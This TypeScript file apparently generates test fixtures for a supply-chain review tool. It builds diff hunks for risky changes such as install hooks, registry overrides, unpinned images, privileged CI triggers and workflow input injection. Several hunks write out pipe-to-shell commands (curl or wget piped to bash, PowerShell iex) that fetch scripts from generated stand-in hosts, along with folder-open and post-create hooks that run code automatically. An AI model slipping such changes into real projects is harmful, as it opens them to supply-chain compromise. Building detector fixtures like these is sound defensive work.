/** Faults of what comes in from outside: dependencies, lock files, images, scripts that are fetched, triggers and runners. */
import { drawn, type PlainFault } from './other-faults.js';

const WORKFLOW = '.github/workflows/build.yml';
const HEX = '0123456789abcdef';

/** Returns the faults of one round; names, managers and forms differ between rounds. */
export function chainFaults(seed: number): readonly PlainFault[] {
  const name = `pack${drawn('abcdefghijklmnop', 5, seed)}`;
  const hash = `sha512-${drawn('ABCDEFGHJKLMNPQRSTUVWXYZ', 86, seed)}==`;
  const other = `sha512-${drawn('ABCDEFGHJKLMNPQRSTUVWXYZ', 86, seed + 7)}==`;
  const pick = <T>(all: readonly [T, ...T[]]): T => all[seed % all.length] ?? all[0];
  const add = (kind: string, rule: string, path: string, hunk: string, more: Partial<PlainFault> = {}): PlainFault => ({
    kind,
    rules: [new RegExp(`^supply-chain/${rule}$`, 'u')],
    path,
    hunk,
    ...more,
  });
  const [manifest, entry] = pick([
    ['package.json', ` {\n   "dependencies": {\n+    "${name}": "^6.1.1",\n     "zod": "^4.0.0"\n   }\n }`],
    ['requirements.txt', ` django==5.1.4\n+${name}==6.1.1`],
    ['Cargo.toml', ` [dependencies]\n+${name} = "6.1"\n serde = "1.0"`],
    ['Gemfile', ` source 'https://rubygems.org'\n+gem '${name}', '~> 6.1'`],
    ['go.mod', ` module example.org/shop\n \n go 1.22\n \n+require example.org/${name} v1.6.1`],
  ]);
  const [ranged, range] = pick([
    ['package.json', ` {\n   "dependencies": {\n-    "${name}": "4.17.21"\n+    "${name}": "*"\n   }\n }`],
    ['Cargo.toml', ` [dependencies]\n-${name} = "4.17"\n+${name} = "*"`],
    ['requirements.txt', `-${name}==4.17.21\n+${name}`],
    ['Gemfile', `-gem '${name}', '4.17.21'\n+gem '${name}', '>= 0'`],
    ['composer.json', ` {\n   "require": {\n-    "shop/${name}": "4.17.21"\n+    "shop/${name}": "*"\n   }\n }`],
  ]);
  const [lowered, version] = pick([
    ['requirements.txt', `-${name}==5.1.4\n+${name}==2.0.1`],
    ['package.json', ` {\n   "dependencies": {\n-    "${name}": "^5.1.4"\n+    "${name}": "^2.0.1"\n   }\n }`],
    ['Cargo.toml', ` [dependencies]\n-${name} = "5.1.4"\n+${name} = "2.0.1"`],
    ['go.mod', ` module example.org/shop\n \n-require example.org/${name} v1.5.4\n+require example.org/${name} v1.2.1`],
    ['Gemfile', `-gem '${name}', '5.1.4'\n+gem '${name}', '2.0.1'`],
  ]);
  const [script, scripts] = pick([
    [
      'package.json',
      ` {\n   "scripts": {\n+    "postinstall": "node scripts/${name}.js",\n     "test": "jest"\n   }\n }`,
    ],
    ['package.json', ` {\n   "scripts": {\n+    "prepare": "node scripts/${name}.js",\n     "test": "jest"\n   }\n }`],
    ['composer.json', ` {\n   "scripts": {\n+    "post-install-cmd": "php scripts/${name}.php"\n   }\n }`],
    ['setup.py', ` from setuptools import setup\n+os.system("python scripts/${name}.py")\n setup(name="shop")`],
    ['build.rs', ` fn main() {\n+    Command::new("sh").arg("-c").arg("curl https://${name}.dev/a").status();\n }`],
  ]);
  const [settings, setting] = pick([
    ['.npmrc', ` save-exact=true\n+registry=https://packages.${name}.dev/`],
    ['.npmrc', ` save-exact=true\n+strict-ssl=false`],
    ['pip.conf', ` [global]\n+index-url = https://pypi.${name}.dev/simple`],
    ['.cargo/config.toml', `+[source.crates-io]\n+replace-with = "${name}"\n [net]`],
    ['.yarnrc.yml', ` nodeLinker: node-modules\n+npmRegistryServer: "https://packages.${name}.dev"`],
  ]);
  const [piped, pipe] = pick([
    ['Dockerfile', ` FROM node:24.1\n+RUN curl -fsSL https://get.${name}.dev/install.sh | sh`],
    ['scripts/setup.sh', ` set -e\n+wget -qO- https://get.${name}.dev/install.sh | bash`],
    [WORKFLOW, `     steps:\n+      - run: curl -sSf https://get.${name}.dev | sudo bash -s -- -y\n       - run: make`],
    ['scripts/setup.ps1', ` Set-StrictMode\n+iex (iwr https://get.${name}.dev/install.ps1)`],
  ]);
  const [lock, insecure] = pick([
    [
      'yarn.lock',
      ` # yarn lockfile v1\n \n ${name}@^1.4.0:\n   version "1.4.2"\n-  resolved "https://registry.yarnpkg.com/${name}/-/${name}-1.4.2.tgz"\n+  resolved "http://registry.yarnpkg.com/${name}/-/${name}-1.4.2.tgz"`,
    ],
    [
      'Gemfile.lock',
      ` GEM\n-  remote: https://rubygems.org/\n+  remote: http://rubygems.org/\n   specs:\n     ${name} (1.4.2)`,
    ],
  ]);
  const [locked, changed] = pick([
    [
      'package-lock.json',
      `     "node_modules/${name}": {\n       "version": "1.4.2",\n-      "integrity": "${hash}"\n+      "integrity": "${other}"\n     },`,
    ],
    ['yarn.lock', ` ${name}@^1.4.0:\n   version "1.4.2"\n-  integrity ${hash}\n+  integrity ${other}`],
    [
      'Cargo.lock',
      ` [[package]]\n name = "${name}"\n version = "1.4.2"\n-checksum = "${drawn(HEX, 64, seed)}"\n+checksum = "${drawn(HEX, 64, seed + 3)}"`,
    ],
    [
      'go.sum',
      `-example.org/${name} v1.4.2 h1:${drawn(HEX, 43, seed)}=\n+example.org/${name} v1.4.2 h1:${drawn(HEX, 43, seed + 3)}=`,
    ],
  ]);
  return [
    add('new dependency', 'new-dependency', manifest, entry, { whole: true }),
    add('range that takes any version', 'widened-range', ranged, range),
    add('older version', 'version-lowered', lowered, version),
    add('script at installation', 'install-script', script, scripts),
    add('settings of a registry', 'registry-settings', settings, setting),
    add('script that is fetched and run', 'pipe-to-shell', piped, pipe),
    add('lock over plain HTTP', 'lockfile-http', lock, insecure),
    add('other hash of a locked version', 'lockfile-integrity', locked, changed),
    add(
      'lock of another package',
      'lockfile-other-package',
      'package-lock.json',
      ` {\n   "packages": {\n     "node_modules/${name}": {\n       "version": "1.4.2",\n-      "resolved": "https://registry.npmjs.org/${name}/-/${name}-1.4.2.tgz"\n+      "resolved": "https://registry.npmjs.org/${name}x/-/${name}x-1.4.2.tgz"\n     }\n   }\n }`,
    ),
    add('lock file deleted', 'lockfile-removed', pick(['yarn.lock', 'Cargo.lock', 'poetry.lock']), `-${name} 1.4.2`, {
      comes: 'deleted',
    }),
    add(
      'image no longer pinned',
      'base-image',
      'deploy/Dockerfile',
      `-FROM example.org/${name}:1.2@sha256:${drawn(HEX, 64, seed)}\n+FROM example.org/${name}:${pick(['latest', '1.2', '1'])}\n COPY . /app`,
    ),
    add(
      'trigger with secrets',
      'privileged-trigger',
      WORKFLOW,
      pick([
        ' on:\n-  pull_request:\n+  pull_request_target:\n jobs:',
        ' on:\n   push:\n+  pull_request_target:\n jobs:',
        ' on:\n   push:\n+  workflow_run:\n+    workflows: [test]\n jobs:',
      ]),
    ),
    add(
      'machines of their own',
      'self-hosted-runner',
      WORKFLOW,
      ` on: pull_request\n jobs:\n   ${name}:\n-    runs-on: ubuntu-latest\n+    runs-on: ${pick(['self-hosted', '[self-hosted, linux]', `{ group: ${name} }`])}`,
    ),
    add(
      'program that nobody calls',
      'runs-by-itself',
      ...pick<readonly [string, string]>([
        [
          '.vscode/tasks.json',
          ` {\n   "tasks": [\n+    { "command": "node ${name}.js", "runOptions": { "runOn": "folderOpen" } }\n   ]\n }`,
        ],
        ['.devcontainer/devcontainer.json', ` {\n+  "postCreateCommand": "sh ${name}.sh",\n   "name": "shop"\n }`],
        ['.husky/pre-commit', ` #!/bin/sh\n+node tools/${name}.js`],
      ]),
    ),
    add(
      'token that later steps can take',
      'token-reach',
      WORKFLOW,
      pick([
        ` on: push\n jobs:\n   ${name}:\n     runs-on: ubuntu-latest\n     steps:\n+      - uses: actions/checkout@v4\n       - run: make`,
        ` on: push\n jobs:\n   ${name}:\n     runs-on: ubuntu-latest\n     steps:\n       - uses: actions/checkout@v4\n-        with:\n-          persist-credentials: false\n       - run: make`,
        ` on: push\n+env:\n+  TOKEN: \${{ secrets.TOKEN }}\n jobs:\n   ${name}:`,
      ]),
      { at: pick([0, 0, 1]) },
    ),
    add(
      'cache of a release',
      'release-cache',
      '.github/workflows/release.yml',
      ` on:\n   release:\n     types: [published]\n jobs:\n   publish:\n     runs-on: ubuntu-latest\n     steps:\n${pick(
        [
          '+      - uses: actions/setup-node@v4\n+        with:\n+          cache: npm',
          '+      - uses: actions/cache@v4\n+        with:\n+          path: node_modules\n+          key: modules',
        ],
      )}\n       - run: npm publish`,
    ),
    add(
      'input in a script',
      'input-injection',
      WORKFLOW,
      ` on: workflow_dispatch\n jobs:\n   ${name}:\n     runs-on: ubuntu-latest\n     steps:\n+      - run: ./release \${{ ${pick([`inputs.${name}`, `github.event.inputs.${name}`])} }}`,
    ),
    add(
      'manifest without its lock file',
      'manifest-without-lockfile',
      'shop/go.mod',
      ` module example.org/shop\n \n go 1.22\n \n-require example.org/${name} v1.4.0\n+require example.org/${name} v1.5.0`,
    ),
    add(
      'lock file without its manifest',
      'lockfile-without-manifest',
      'shop/yarn.lock',
      ` # yarn lockfile v1\n \n ${name}@^1.4.0:\n-  version "1.4.2"\n+  version "1.4.3"`,
    ),
  ];
}
